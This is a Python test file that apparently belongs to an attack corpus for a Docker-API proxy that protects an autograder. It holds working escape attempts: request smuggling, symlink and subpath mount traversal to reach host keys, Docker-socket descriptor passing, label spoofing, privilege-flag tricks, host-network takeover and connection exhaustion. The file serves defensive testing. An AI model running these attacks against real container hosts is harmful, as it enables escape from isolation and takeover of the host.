"""Escaping: requests that the proxy and the daemon could understand differently, for more than containers of one's own.

Each prints REACHED only when it has what it wants; the tests search for that word in the executed notebook.
"""

from __future__ import annotations

from tests.attack_corpus.attack import Attack
from tests.attack_corpus.requests_to_docker import COMMON


def _passed(begun: str, rest: str) -> str:
    """Return code that sends ``begun``, passes the connection to a container, and has it send ``rest`` later.

    The container waits until the process that opened the connection has ended; ``answer`` is what it receives.
    """
    return f"""os.makedirs("shared")
program = '''
import socket, time
listener = socket.socket(socket.AF_UNIX)
listener.bind("/s/line")
listener.listen()
given, _ = listener.accept()
_, descriptors, _, _ = socket.recv_fds(given, 1, 1)
while given.recv(1):
    pass
time.sleep(1)
line = socket.socket(fileno=descriptors[0])
try:
    line.sendall({rest!r}.encode())
    answer = line.recv(100)
except OSError as error:
    answer = str(error).encode()
open("/s/answer", "wb").write(answer + b"!")
'''
client.containers.run("drydock/python:3.13", ["python3", "-c", program], volumes=[work + "/shared:/s"], detach=True)
passing = '''
import socket
line, near = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
line.connect("/var/run/docker.sock")
line.sendall({begun!r}.encode())
near.connect("shared/line")
socket.send_fds(near, [b"x"], [line.fileno()])
'''
def until(path):
    for _ in range(100):
        if os.path.exists(path):
            return True
        time.sleep(0.1)
until("shared/line")
subprocess.run(["python3", "-c", passing])
answer = open("shared/answer", "rb").read() if until("shared/answer") else b"none"
print(answer)
"""


_CODE = {
    "annotations": (
        "Has the container runtime write to a file of the machine, by annotations.",
        """hook = {"run.oci.hooks.stdout": work + "/made-by-the-runtime", "run.oci.seccomp_bpf_data": "BgAAAAAA/38="}
report(create(Cmd=["true"], HostConfig={"Annotations": hook}))
report(create(Cmd=["true"], Annotations=hook))
output(create(Cmd=["true"], Labels=hook))
report(os.path.exists("made-by-the-runtime"))""",
    ),
    "dots-behind-a-link": (
        "Binds a path with `..` behind a link, which one program resolves on disk and another one as text.",
        """os.makedirs("a/b/c/d/e/f/g/h/i")
os.symlink(work + "/a/b/c/d/e/f/g/h/i", "deep")
look_around(volumes=[work + "/deep" + "/.." * (work.count("/") + 1) + ":/h"])
look_around(volumes=[work + "/deep/" + "../" * 9 + ":/h"])""",
    ),
    "changed-after-creation": (
        "Binds a folder, and replaces it by a link to the root before the container starts.",
        """os.makedirs("folder")
made = client.containers.create(busybox, "ls -a /h /h/run/seed", volumes=[work + "/folder:/h"])
os.rmdir("folder")
os.symlink("/", "folder")
report(b"server-key.pem" in output(made))""",
    ),
    "subpath": (
        "Mounts a volume's link to the root as the volume's subpath.",
        """client.volumes.create("links")
client.containers.run(busybox, "ln -s / /v/root", volumes=["links:/v"], remove=True)
for subpath in ("root", "root/run", "../../../../../..", "/"):
    mount = {"Type": "volume", "Source": "links", "Target": "/h", "VolumeOptions": {"Subpath": subpath}}
    made = create(Cmd=["ls", "-a", "/h", "/h/seed", "/h/run/seed"], HostConfig={"Mounts": [mount]})
    report(b"server-key.pem" in output(made))""",
    ),
    "two-of-a-name": (
        "Names a field twice, and writes it in letters that Go takes for the same.",
        """for field in ('"HostConfig": {"Privileged": true}, "HostConfig": {}', '"HostConfig": {"PRIVILEGED": true}',
              '"Ho\\u017ftConfig": {"Privileged": true}', '"HostConfig": {"Privileged": false, "privileged": true}'):
    status, answer = ask("POST", "/containers/create", '{"Image": "%s", %s}' % (busybox, field))
    facts = json.loads(ask("GET", "/containers/%s/json" % json.loads(answer).get("Id", "none"))[1])
    report(facts.get("HostConfig", {}).get("Privileged"))""",
    ),
    "request-in-a-request": (
        "Hides a second request behind a first one, in its body, its chunks, or a stream.",
        """body = b'{"Image": "drydock/busybox:1.37"}'
second = b"POST /containers/create?name=second HTTP/1.1\\r\\nHost: docker\\r\\nContent-Type: application/json\\r\\n"
second += b"Content-Length: %d\\r\\n\\r\\n" % len(body) + body
for first in (b"GET /info HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
              b"GET /_ping HTTP/1.1\\r\\nHost: x\\r\\nConnection: Upgrade\\r\\nUpgrade: tcp\\r\\n\\r\\n",
              b"POST /build HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked\\r\\n"
              b"Content-Length: 5\\r\\n\\r\\n0\\r\\n\\r\\n",
              b"POST /auth HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\nContent-Length: 9\\r\\n\\r\\n"):
    with connect() as line:
        line.sendall(first + second)
        answer = b""
        try:
            while received := line.recv(65536):
                answer += received
        except OSError as error:
            print(error)
        print(first[:30], answer[:40], answer.count(b"HTTP/1.1 "))
report(ask("GET", "/containers/second/json")[0] == 200)
with connect() as line:  # the same request by itself is accepted
    line.sendall(second)
    print(line.recv(100))""",
    ),
    "stream-that-does-not-begin": (
        "Hides a second request in a stream that the daemon never begins: it goes on to read HTTP there.",
        """body = json.dumps({"Image": busybox, "Cmd": ["ls", "/h"], "HostConfig": {"Binds": ["/run/seed:/h"]}})
second = "POST /containers/create?name=second HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/json\\r\\n"
second += "Content-Length: %d\\r\\n\\r\\n%s" % (len(body), body)
def stream(path, protocol, body=""):
    head = "POST %s HTTP/1.1\\r\\nConnection: Upgrade\\r\\nUpgrade: %s\\r\\nX-Docker-Expose-Session-Uuid: x\\r\\n"
    line = connect()
    line.settimeout(5)
    line.sendall((head % (path, protocol) + "Content-Length: %d\\r\\n\\r\\n%s" % (len(body), body)).encode())
    return line
own = client.containers.run(busybox, "sleep 900", detach=True)
detached = "/exec/%s/start" % client.api.exec_create(own.id, ["true"])["Id"]
first = stream("/session", "h2c")
time.sleep(1)
for line in (stream("/session", "h2c"), stream(detached, "tcp", json.dumps({"Detach": True}))):
    line.sendall(second.encode())
    attempt(lambda: print(line.recv(500), line.recv(500)))
report(ask("GET", "/containers/second/json")[0] == 200)""",
    ),
    "network-of-the-machine": (
        "Takes the machine's own network: for a container, a build, a network of its own.",
        """for path, body in {
    "/containers/create": {"Image": busybox, "HostConfig": {"NetworkMode": "host"}},
    "/networks/create": {"Name": "card", "Driver": "macvlan", "Options": {"parent": "vec0"}},
    "/networks/create?x=": {"Name": "uplink", "IPAM": {"Config": [{"Subnet": "10.0.2.0/24"}]}},
    "/build?networkmode=host": archive(("Dockerfile", {}, b"FROM drydock/busybox:1.37\\nRUN true")),
}.items():
    report(ask("POST", path, body)[0] in (200, 201))""",
    ),
    "network-named-like-an-id": (
        "Names a network by the id of the machine's own network, and joins it by its real id.",
        """host = client.networks.list(names=["host"])[0].id
status, answer = ask("POST", "/networks/create", {"Name": host})
for name in (host, json.loads(answer).get("Id", "none"), host[:12]):
    made = create(Cmd=["ip", "address", "show", "dev", "vec0"], HostConfig={"NetworkMode": name})
    report(b"10.0.2.100" in output(made))""",
    ),
    "container-named-like-an-id": (
        "Names a container by the id of the grader's container, and enters it by that name.",
        """kernel = grader()
ask("POST", "/containers/create?name=" + kernel, {"Image": busybox})
ask("POST", "/containers/create?name=" + kernel[:12], {"Image": busybox})
for name in (kernel, kernel[:12]):
    report(ask("POST", "/containers/%s/exec" % name, {"Cmd": ["true"]})[0] == 201 and
           kernel in json.loads(ask("GET", "/containers/%s/json" % name)[1])["Id"])""",
    ),
    "entitlements": (
        "Asks a build for the machine's network and for privileges.",
        """for option in ("network=host", "security=insecure"):
    open("Dockerfile", "w").write("FROM drydock/busybox:1.37\\nRUN --%s true\\n" % option)
    build = ["docker", "build", "--progress=plain", "--allow", option.replace("=", "."), "."]
    done = subprocess.run(build, env={**os.environ, "DOCKER_BUILDKIT": "1"}, capture_output=True, text=True)
    print(done.stderr[-400:])
    report(done.returncode == 0)""",
    ),
    "containers-of-the-grader": (
        "Enters, changes and shares with the container that the notebook runs in.",
        """kernel = grader()
shared = {name: "container:" + kernel for name in ("PidMode", "IpcMode", "NetworkMode")}
for host in [{name: mode} for name, mode in shared.items()] + [{"VolumesFrom": [kernel[:12]]}]:
    report(create(HostConfig=host))
for verb, body in ("exec", {"Cmd": ["true"]}), ("update", {"Memory": 1 << 30}), ("rename?name=x", None), ("stop", None):
    report(ask("POST", "/containers/%s/%s" % (kernel, verb), body)[0] in (200, 201, 204))
report(ask("GET", "/containers/%s/archive?path=/" % kernel)[0] == 200)
report(ask("POST", "/commit?container=" + kernel)[0] == 201)""",
    ),
    "label-of-the-grader": (
        "Makes an image with the grader's label, so that its containers look like the grader's.",
        """made = client.containers.create(busybox, labels={"io.drydock.owner": "autograder"})
image = attempt(made.commit, "labelled", changes="LABEL io.drydock.owner=autograder")
open("Dockerfile", "w").write("FROM drydock/busybox:1.37\\nLABEL io.drydock.owner=autograder\\n")
subprocess.run(["docker", "build", "--quiet", "--label", "io.drydock.owner=autograder", "--tag", "built", "."])
again = [client.containers.create(name) for name in (image and image.id, "built") if name]
labels = [one.labels.get("io.drydock.owner") for one in (made, *again)]
print(labels)
report("autograder" in labels)""",
    ),
    "label-of-a-build-step": (
        "Passes the socket itself into a step of a build by the legacy builder, which has the grader's label.",
        """os.makedirs("shared")
os.makedirs("context")
open("context/Dockerfile", "w").write('''FROM drydock/python:3.13
LABEL io.drydock.owner=autograder
VOLUME /a
COPY step.py /step.py
RUN python3 /step.py
''')
open("context/step.py", "w").write('''
import socket
listener = socket.socket(socket.AF_UNIX)
listener.settimeout(30)
listener.bind("/a/line")
listener.listen()
given, _ = listener.accept()
_, descriptors, _, _ = socket.recv_fds(given, 1, 1)
line = socket.socket(socket.AF_UNIX)
line.connect("/proc/self/fd/%d" % descriptors[0])
line.sendall(b"GET /_ping HTTP/1.1\\\\r\\\\nHost: x\\\\r\\\\n\\\\r\\\\n")
print(line.recv(300))
''')
build = subprocess.Popen(["docker", "build", "--no-cache", "context"], env={**os.environ, "DOCKER_BUILDKIT": "0"},
                         stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def until(found):
    for _ in range(300):
        if result := found():
            return result
        time.sleep(0.1)
def running():
    return [one for one in client.containers.list(ignore_removed=True) if not one.name.startswith("kernel-")]
[step] = until(running)
print(step.labels)
courier = '''
import os, socket, time
listener = socket.socket(socket.AF_UNIX)
listener.bind("/s/line")
listener.listen()
given, _ = listener.accept()
_, descriptors, _, _ = socket.recv_fds(given, 1, 1)
while not os.path.exists("/a/line"):
    time.sleep(0.1)
far = socket.socket(socket.AF_UNIX)
far.connect("/a/line")
socket.send_fds(far, [b"x"], descriptors)
'''
shared = [work + "/shared:/s", "%s:/a" % step.attrs["Mounts"][0]["Name"]]
client.containers.run("drydock/python:3.13", ["python3", "-c", courier], volumes=shared, detach=True)
until(lambda: os.path.exists("shared/line"))
time.sleep(1)
near = socket.socket(socket.AF_UNIX)
near.connect("shared/line")
socket.send_fds(near, [b"x"], [os.open("/var/run/docker.sock", os.O_PATH)])
log, _ = build.communicate(timeout=40)
print(log.decode()[-600:])
report(b"200 OK" in log)""",
    ),
    "passed-connection": (
        "Passes an open connection to a container that stays, and ends the process that opened it.",
        _passed("", "GET /_ping HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n") + """report(b"200 OK" in answer)""",
    ),
    "finished-request": (
        "Begins requests that a container finishes when the process that opened the connections has ended.",
        """client.volumes.create("begun")
"""
        + _passed("DELETE /volumes/begun HTTP/1.1\\r\\n", "\\r\\n")
        + """report(ask("GET", "/volumes/begun")[0] == 404)""",
    ),
    "call-from-a-container": (
        "Takes the socket into a container of its own, by every way that the socket has a name.",
        """for volume in ("/var/run/docker.sock:/s", "/run:/s", "/run/docker.sock:/s", "/proc/1/root/run:/s"):
    attempt(client.containers.run, busybox, "true", volumes=[volume])
os.symlink("/var/run/docker.sock", "socket")
attempt(os.link, "/var/run/docker.sock", "linked")
program = '''
import os, socket
print(os.listdir("/s"))
for path in ("/s/socket", "/s/linked", "/proc/1/root/run/docker.sock", "/var/run/docker.sock"):
    with socket.socket(socket.AF_UNIX) as line:
        try:
            line.connect(path)
            line.sendall(b"GET /_ping HTTP/1.1\\\\r\\\\nHost: x\\\\r\\\\n\\\\r\\\\n")
            print(path, line.recv(100))
        except OSError as error:
            print(path, error)
'''
listing = client.containers.run("drydock/python:3.13", ["python3", "-c", program], volumes=[work + ":/s"])
print(listing)
report(b"200 OK" in listing or b"linked'" in listing)""",
    ),
    "held-connections": (
        "Opens every connection that the proxy has, and sends a byte now and then.",
        """lines = [connect() for _ in range(300)]
for _ in range(3):
    for line in lines:
        attempt(line.sendall, b"G")
    time.sleep(1)
print(attempt(client.ping))
for line in lines:
    line.close()
time.sleep(1)
report(attempt(client.ping) is not True)""",
    ),
    "volume-and-link": (
        "Combines two: a container of its own makes links in the work folder, and another one binds through them.",
        """client.containers.run(busybox, "ln -s /run /w/inner", volumes=[work + ":/w"], remove=True)
look_around(volumes=[work + "/inner/seed:/h"])
look_around(mounts=[docker.types.Mount("/h", work + "/inner", type="bind")])""",
    ),
}

ATTACKS = {
    name: Attack(tries, COMMON + code, "proxy", states=("graded", "crashed"), combined=tries.startswith("Combines"))
    for name, (tries, code) in _CODE.items()
}
